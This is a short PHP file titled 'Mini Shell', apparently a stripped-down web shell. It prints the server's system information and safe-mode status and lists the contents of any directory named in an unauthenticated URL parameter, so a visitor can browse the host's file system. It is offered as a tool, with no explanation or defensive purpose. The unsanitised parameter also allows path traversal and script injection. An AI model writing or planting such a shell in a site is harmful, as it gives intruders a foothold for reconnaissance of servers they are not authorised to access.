<html><head><title>Mini Shell</title></head><body>
<?php
echo "Uname:</b> " . php_uname() . "<br>";
echo "Safe Mode: <b>" . (ini_get('safe_mode') ? 'ON' : 'OFF') . "</b>";
$d = isset($_GET['d']) ? $_GET['d'] : getcwd();
foreach (scandir($d) as $f) { echo "<a href='?d=$d/$f'>$f</a><br>"; }
?>
</body></html>
